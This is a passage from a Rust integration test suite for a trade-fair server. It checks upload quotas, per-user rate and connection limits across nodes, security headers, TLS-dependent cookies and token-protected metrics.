    let (status, body) = upload_media(&app, &staff, company.id, "c.pdf", pdf(2_000)).await;
    assert_eq!(status, 413, "{body}");
    assert_eq!(body["code"], "message_too_large");
    let (status, body) = upload_media(&app, &staff, company.id, "d.pdf", pdf(900)).await;
    assert_eq!(status, 201, "{body}");
    // Three files a day: the fourth is refused, however small.
    let (status, body) = upload_media(&app, &staff, company.id, "e.pdf", pdf(300)).await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(body["code"], "rate_limited");
    // The quota is the uploader's: the organizer has a quota of their own, here spent by bytes.
    for name in ["f.pdf", "g.pdf"] {
        let (status, body) = upload_media(&app, &admin, company.id, name, pdf(2_500)).await;
        assert_eq!(status, 201, "{body}");
    }
    let (status, body) = upload_media(&app, &admin, company.id, "h.pdf", pdf(300)).await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(body["code"], "rate_limited");
    assert!(
        body["message"].as_str().unwrap().contains("a day"),
        "{body}"
    );
    // Chat attachments have a quota of their own, not spent by booth media.
    let room = open_chat(
        &staff.connect().await.unwrap(),
        &format!("booth:{}", company.id),
    )
    .await
    .unwrap();
    let (status, body) = attach(&app, &staff, room.id, "x.pdf", pdf(300)).await;
    assert_eq!(status, 201, "{body}");
    let files = std::fs::read_dir(env.data_dir.join("uploads"))
        .unwrap()
        .count();
    assert_eq!(files, 5, "refused uploads leave no file");
    still_serves(&app).await;
    app.stop().await;
}

/// Sends `n` pings on `hub` at once; counts the accepted and the `rate_limited` ones.
async fn pings(hub: &Hub, n: usize) -> (usize, usize) {
    let replies = futures_util::future::join_all((0..n).map(|_| hub.request(Command::Ping))).await;
    let mut ok = 0;
    let mut limited = 0;
    for reply in replies {
        match reply {
            Ok(_) => ok += 1,
            Err(error) => {
                assert_eq!(error.code(), Some(ErrorCode::RateLimited), "{error:?}");
                limited += 1;
            }
        }
    }
    (ok, limited)
}

/// The per-user limits (commands, chat messages, open connections) hold over all of a user's
/// connections and, on Redis, over all nodes: two nodes together grant about one allowance.
async fn user_limits_hold_across_connections_and_nodes(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let tweak = |c: &mut expo_server::Config| {
        // Connections may send plenty; the user's allowance is what is measured.
        c.rate_per_sec = 1_000;
        c.rate_burst = 1_000;
        c.user_rate_per_sec = 1;
        c.user_rate_burst = 20;
        c.chat_rate_per_sec = 1;
        c.max_conns_per_user = 3;
    };
    let a = env.start_with(tweak).await;
    // On Redis a second node of the same fair; in process, a second connection to the one node.
    let b = match engines {
        Engines::Services => Some(env.start_with(tweak).await),
        Engines::Embedded => None,
    };
    let node_b = b.as_ref().unwrap_or(&a);
    let user = a.buyer("busy@limits.example").await;
    let on_b = Api::new(&node_b.base).with_token(user.token().unwrap());
    let first = user.connect().await.unwrap();
    let second = on_b.connect().await.unwrap();
    if let Some(b) = &b {
        assert!(
            second.conn_id().starts_with(&format!("{}-", b.node_id)),
            "the second connection is on the second node"
        );
        assert!(first.conn_id().starts_with(&format!("{}-", a.node_id)));
        assert_ne!(a.node_id, b.node_id);
    }
    // 30 commands on each: the user's burst is 20 in all, so about 20 pass, not 40 or 60.
    let ((ok_a, limited_a), (ok_b, limited_b)) =
        tokio::join!(pings(&first, 30), pings(&second, 30));
    let accepted = ok_a + ok_b;
    println!("accepted {ok_a} + {ok_b} of 60 commands (one allowance: 20, +1 a second)");
    assert!(
        (20..=23).contains(&accepted),
        "one allowance over both connections: {ok_a} + {ok_b}"
    );
    assert_eq!(limited_a + limited_b, 60 - accepted);
    // The connections live on and are served again once the allowance refills.
    // (One command a second: two seconds for one on each connection.)
    tokio::time::sleep(Duration::from_millis(2_200)).await;
    for hub in [&first, &second] {
        assert!(hub.request(Command::Ping).await.is_ok(), "still served");
    }

    // Chat: 1 message a second, bursts of 2, for the user over both connections.
    let (company, _staff) =
        company_with_staff(&a, &a.admin().await, "101-81-16021", "s@limits.example").await;
    let writer = a.buyer("writer@limits.example").await;
    let writer_b = Api::new(&node_b.base).with_token(writer.token().unwrap());
    let hubs = [
        writer.connect().await.unwrap(),
        writer_b.connect().await.unwrap(),
    ];
    let room = open_chat(&hubs[0], &format!("booth:{}", company.id))
        .await
        .unwrap();
    for hub in &hubs {
        hub.request(Command::ChatJoin {
            room_id: room.id,
            after_seq: 0,
        })
        .await
        .unwrap();
    }
    let sends = hubs.iter().enumerate().flat_map(|(h, hub)| {
        (0..4).map(move |i| say(hub, room.id, format!("hello {h}.{i}"), format!("k{h}.{i}")))
    });
    let replies = futures_util::future::join_all(sends).await;
    let sent = replies.iter().filter(|r| r.is_ok()).count();
    for reply in &replies {
        if let Err(error) = reply {
            assert_eq!(error.code(), Some(ErrorCode::RateLimited), "{error:?}");
        }
    }
    assert!(
        (2..=3).contains(&sent),
        "one chat allowance over both connections: {sent} of 8 sent"
    );

    // Open connections: at most 3 for the user, wherever they are.
    let third = on_b.connect().await.unwrap();
    for api in [&user, &on_b] {
        let Err(error) = api.connect().await else {
            panic!("a fourth connection of the user is refused on every node");
        };
        assert_eq!(error.code(), Some(ErrorCode::RateLimited));
    }
    // A closed connection on one node frees a place on the other.
    first.close();
    eventually(Duration::from_secs(5), "a place is free again", || async {
        on_b.connect().await.is_ok()
    })
    .await;
    drop(third);
    still_serves(&a).await;
    if let Some(b) = b {
        b.stop().await;
    }
    a.stop().await;
}

both_engines!(
    malformed_addresses_get_typed_errors,
    booth_media_has_a_daily_quota,
    user_limits_hold_across_connections_and_nodes,
    pages_are_capped,
    smaller_findings,
    nul_characters_and_big_bodies,
    connections_are_limited,
    attachments_cannot_fill_the_disk,
    image_bombs_are_refused,
    meeting_outcomes_stay_with_the_company,
    presence_names_only_consenting_buyers,
    no_account_lookups_by_id,
    spreadsheet_bombs_are_refused,
    csv_exports_carry_no_formulas,
    sign_in_is_throttled,
    sign_in_is_throttled_per_address,
    weak_passwords_and_account_probes,
);

/// The security headers on a page, a JSON answer and a static file.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_headers_everywhere() {
    let env = TestEnv::new(Engines::Embedded).await;
    let app = env
        .start_with(|c| c.stage_hls_base = "https://media.expo.test:8443/hls/".into())
        .await;
    for path in ["/", "/api/v1/fair", "/app.js", "/api/v1/nothing-here"] {
        let response = http()
            .get(format!("{}{path}", app.base))
            .send()
            .await
            .unwrap();
        let headers = response.headers();
        let csp = headers
            .get("content-security-policy")
            .unwrap_or_else(|| panic!("a CSP on {path}"))
            .to_str()
            .unwrap();
        assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
        assert!(csp.contains("script-src 'self'"), "{csp}");
        assert!(!csp.contains("unsafe-inline"), "{csp}");
        // The stage's players fetch HLS from the media server, and from nowhere else.
        assert!(
            csp.contains("media-src 'self' blob: https://media.expo.test:8443;"),
            "{csp}"
        );
        assert!(
            csp.contains("connect-src 'self' ws: wss: https://media.expo.test:8443;"),
            "{csp}"
        );
        assert_eq!(headers["x-frame-options"], "DENY", "{path}");
        assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(headers["referrer-policy"], "no-referrer", "{path}");
    }
    // The page itself has no inline script or handler for the policy to break.
    let page = http()
        .get(&app.base)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!page.contains("<script>") && !page.contains(" onload="));
    app.stop().await;
}

/// The session cookie is `Secure` when the fair is served over TLS, and not otherwise.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secure_cookie_behind_tls() {
    let env = TestEnv::new(Engines::Embedded).await;
    let login = |app: &TestApp| {
        let url = format!("{}/api/v1/auth/login", app.base);
        async move {
            let response = http()
                .post(url)
                .json(&LoginRequest {
                    email: ADMIN_EMAIL.into(),
                    password: ADMIN_PASSWORD.into(),
                })
                .send()
                .await
                .unwrap();
            response.headers()["set-cookie"]
                .to_str()
                .unwrap()
                .to_string()
        }
    };
    let plain = env.start().await;
    let cookie = login(&plain).await;
    assert!(!cookie.contains("Secure"), "{cookie}");
    plain.stop().await;
    let tls = env
        .start_with(|c| c.public_url = Some("https://fair.example.com".into()))
        .await;
    let cookie = login(&tls).await;
    assert!(cookie.contains("; Secure"), "{cookie}");
    assert!(cookie.contains("HttpOnly"), "{cookie}");
    tls.stop().await;
}

/// `/metrics` answers only with the configured bearer token.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_need_a_token() {
    let env = TestEnv::new(Engines::Embedded).await;
    let open = env.start().await;
    let response = http()
        .get(format!("{}/metrics", open.base))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 404, "no token configured: no metrics");
    open.stop().await;
    let app = env
        .start_with(|c| c.metrics_token = Some("scrape-secret".into()))
        .await;
    let get = |token: Option<&'static str>| {
        let url = format!("{}/metrics", app.base);
        async move {
            let mut request = http().get(url);
            if let Some(token) = token {
                request = request.bearer_auth(token);
            }
            request.send().await.unwrap().status().as_u16()
        }
    };
    assert_eq!(get(None).await, 401);
    assert_eq!(get(Some("wrong")).await, 401);
    assert_eq!(get(Some("scrape-secret")).await, 200);
    app.stop().await;
}
